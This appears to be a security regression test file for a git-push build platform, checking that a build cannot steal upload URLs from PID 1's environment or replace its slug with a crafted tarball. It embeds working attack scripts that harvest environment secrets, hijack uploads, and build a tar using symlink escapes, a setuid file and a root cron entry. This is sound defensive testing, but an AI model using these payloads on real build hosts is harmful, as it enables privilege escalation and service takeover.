"""Finding 1: a build held the slug upload URL (in PID 1's environment) and the host unpacked slugs as root.

Both attacks run as user code inside a real build (`npm run build` of a Node app), pushed through git and the CLI:
(a) read /proc/1/environ and keep uploading a slug of the build's own making after the real one;
(b) replace the build's slug with a crafted tar (links out of /app, files written through them, a setuid file).
"""

from __future__ import annotations

import json
import os
import stat
import uuid
from pathlib import Path

from tests.e2e.conftest import Cluster, User, curl, wait_for
from tests.security.conftest import Victim, attacker_repo, victim_serves

SERVER = """\
const http = require("http");
http.createServer((req, res) => res.end("the real slug\\n")).listen(Number(process.env.PORT), "0.0.0.0");
"""

# (a): what PID 1 (the slugbuilder) holds, then a detached process that tries every URL it found, for as long as it
# lives, to PUT a slug that would serve "replaced".
STEAL = """\
import json, os, re, subprocess, sys, time, urllib.request
env = dict(v.split("=", 1) for v in open("/proc/1/environ").read().split("\\0") if "=" in v)
urls = {k: v for k, v in env.items() if re.match(r"https?://", v)}
print("attack: URL variables of PID 1:", ",".join(sorted(urls)) or "none", flush=True)
secret_like = [k for k in env if "SECRET" in k or "TOKEN" in k or k.endswith("_KEY")]
print("attack: secrets in PID 1:", ",".join(secret_like) or "none", flush=True)

def put_all():
    codes = {}
    for name, url in urls.items():
        request = urllib.request.Request(url, data=b"replaced", method="PUT")
        try:
            codes[name] = urllib.request.urlopen(request, timeout=5).status
        except urllib.error.HTTPError as exc:
            codes[name] = exc.code
        except Exception as exc:
            codes[name] = str(exc)
    return codes

print("attack: PUT answers:", json.dumps(put_all(), sort_keys=True), flush=True)
if os.fork() == 0:  # keep trying after the build's own upload would have happened
    os.setsid()
    for fd in (0, 1, 2):
        os.close(fd)
    deadline = time.time() + 60
    while time.time() < deadline:
        put_all()
        time.sleep(0.05)
    os._exit(0)
"""

# (b): a detached process swaps the slug for a crafted one as soon as the slugbuilder has finished writing it (it
# writes the cache next: 32 MiB of cache make that window wide).
CRAFT = """\
import io, os, sys, tarfile, time
marker = sys.argv[1]
os.makedirs("/tmp/cache", exist_ok=True)
with open("/tmp/cache/padding", "wb") as pad:
    pad.write(os.urandom(32 << 20))

def crafted():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        def add(name, kind=tarfile.REGTYPE, link="", mode=0o755, data=b""):
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.mode, info.size = kind, link, mode, len(data)
            tar.addfile(info, io.BytesIO(data) if data else None)
        add("./suid", mode=0o4755, data=b"#!/bin/sh\\nid\\n")
        add("./fifo", tarfile.FIFOTYPE)
        add("./up", tarfile.SYMTYPE, link="../../../..")
        add("./tmp", tarfile.SYMTYPE, link="/tmp")
        add("./cron", tarfile.SYMTYPE, link="/etc/cron.d")
        add("./up/" + marker, data=b"pwned")
        add("./tmp/" + marker, mode=0o4755, data=b"pwned")
        add("./cron/" + marker, data=b"* * * * * root id")
    return buf.getvalue()

if os.fork() == 0:
    os.setsid()
    for fd in (0, 1, 2):  # the slugbuilder reads the build's output until every writer has closed it
        os.close(fd)
    data = crafted()
    deadline = time.time() + 120
    while time.time() < deadline and not os.path.exists("/encom/out/cache.tar"):
        time.sleep(0.002)
    with open("/encom/out/.crafted", "wb") as out:
        out.write(data)
    os.rename("/encom/out/.crafted", "/encom/out/slug.tgz")
    os._exit(0)
print("attack: waiting to replace the slug", flush=True)
"""


def node_app(build: str) -> dict[str, str]:
    package = {"name": "attacker", "version": "1.0.0", "scripts": {"build": build}, "dependencies": {}}
    return {"package.json": json.dumps(package), "Procfile": "web: node server.js\n", "server.js": SERVER}


def setuid_files(root: Path) -> list[str]:
    found = []
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            mode = os.lstat(path).st_mode
            if mode & (stat.S_ISUID | stat.S_ISGID) and not stat.S_ISDIR(mode):
                found.append(path)
    return found


def anything_named(marker: str, state_dir: Path) -> list[str]:
    """Where the crafted slug's links point (/tmp, /etc/cron.d, four levels above the job's /app), and anywhere in
    the state directory."""
    found = [
        str(d / marker)
        for d in (Path("/tmp"), Path("/etc/cron.d"), Path("/"), state_dir.parent)
        if (d / marker).exists()
    ]
    for dirpath, dirnames, filenames in os.walk(state_dir):
        found += [os.path.join(dirpath, n) for n in dirnames + filenames if marker in n]
    return found


def test_a_build_cannot_replace_its_slug(cluster: Cluster, user: User, victim: Victim) -> None:
    repo = attacker_repo(user, "slugthief", node_app("python3 steal.py") | {"steal.py": STEAL})
    with victim_serves(cluster, victim, "a build stealing upload credentials"):
        push = user.ok("git", "push", "encom", "master", cwd=repo, timeout=300)
        host = "slugthief.encom.localhost"
        wait_for("the attacker's app to answer", lambda: curl(cluster.router_port, host)[0] == 200)
        url_line = next(line for line in push.text.splitlines() if "attack: URL variables of PID 1:" in line)
        assert url_line.split(":")[-1].strip() == "CACHE_URL,SOURCE_URL", push.text  # signed GETs only
        assert "attack: secrets in PID 1: none" in push.text, push.text
        answers_line = next(line for line in push.text.splitlines() if "attack: PUT answers:" in line)
        answers = json.loads(answers_line.split("PUT answers:", 1)[1])
        assert answers and all(isinstance(code, int) and 400 <= code < 500 for code in answers.values()), answers
        for _ in range(20):  # the detached uploader would have had all the time it needs by now
            assert curl(cluster.router_port, host) == (200, "the real slug\n")


def test_a_crafted_slug_writes_nothing_outside_its_app(cluster: Cluster, user: User, victim: Victim) -> None:
    marker = f"encom-pwned-{uuid.uuid4().hex[:8]}"
    repo = attacker_repo(user, "slugcrafter", node_app(f"python3 craft.py {marker}") | {"craft.py": CRAFT})
    with victim_serves(cluster, victim, "a build crafting its slug"):
        push = user.fails("git", "push", "encom", "master", cwd=repo, timeout=300)
    assert "attack: waiting to replace the slug" in push.text, push.text
    # The host refused the crafted slug (a member below a link): the web job never started.
    assert "slug refused" in push.text and "below a link" in push.text, push.text
    assert anything_named(marker, cluster.state_dir) == []
    assert setuid_files(cluster.state_dir) == []
